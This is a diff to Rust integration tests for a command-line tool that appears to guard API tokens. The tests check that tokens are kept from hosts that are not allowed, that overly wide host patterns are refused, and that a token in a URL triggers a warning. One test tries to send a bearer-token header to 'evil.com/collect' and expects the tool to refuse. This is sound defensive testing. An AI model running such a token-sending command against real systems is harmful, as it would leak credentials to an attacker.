@@ -69,9 +69,11 @@ fn a_kit_gets_no_token_by_its_hosts_its_variables_and_its_names() {
     let imported = run(&home, &relay, &["import", "--yes", kit.to_str().unwrap()]);
     assert!(imported.status.success(), "{}", both(&imported));
     let shown = text(&imported.stdout);
-    for said in
-        ["127.0.0.1 may not see the token", "*.com. may not see the token", "Refused host: *.com."]
-    {
+    for said in [
+        "127.0.0.1 may not see the token",
+        "*.com. may not see the token",
+        "Never allowed: The allowed host \"*.com.\" is too wide",
+    ] {
         assert!(shown.contains(said), "{said}: {shown}");
     }
     // What decides about trust is said before everything else that is known of the profile.
@@ -176,7 +178,7 @@ fn a_bad_host_in_a_file_allows_nothing_and_is_shown() {
     std::fs::write(&file, written.replace("allowed_hosts = []", hosts)).unwrap();
     let shown = home.ok(&["profile", "show", "Places"]);
     assert!(shown.contains("Allowed host          api.example.com"), "{shown}");
-    assert!(shown.contains("Refused host          *.com.: not allowed."), "{shown}");
+    assert!(shown.contains("Refused host          *.com. allows nothing."), "{shown}");
     let header = "Authorization: Bearer {{ACCESS_TOKEN}}";
     let sent = home.run(&["send", "Places", "https://evil.com/collect", "-H", header]);
     assert!(both(&sent).contains("evil.com is not one of the hosts"), "{}", both(&sent));
@@ -243,6 +245,10 @@ fn a_token_in_a_url_asks_before_it_goes_to_production() {
     let home = new_home();
     home.add_places();
     let url = "https://api-places.adobe.io/places/placesapi/v1/libraries?q={{ACCESS_TOKEN}}";
+    let warned = home.run(&["send", "Places", url]);
+    let warning = "The URL contains a token or another secret.";
+    assert!(both(&warned).contains(warning), "{}", both(&warned));
+    std::fs::remove_file(home.path().join("home/history.db")).unwrap();
     home.ok(&["profile", "edit", "Places", "--risk", "production"]);
     let refused = home.run(&["send", "Places", url]);
     assert!(
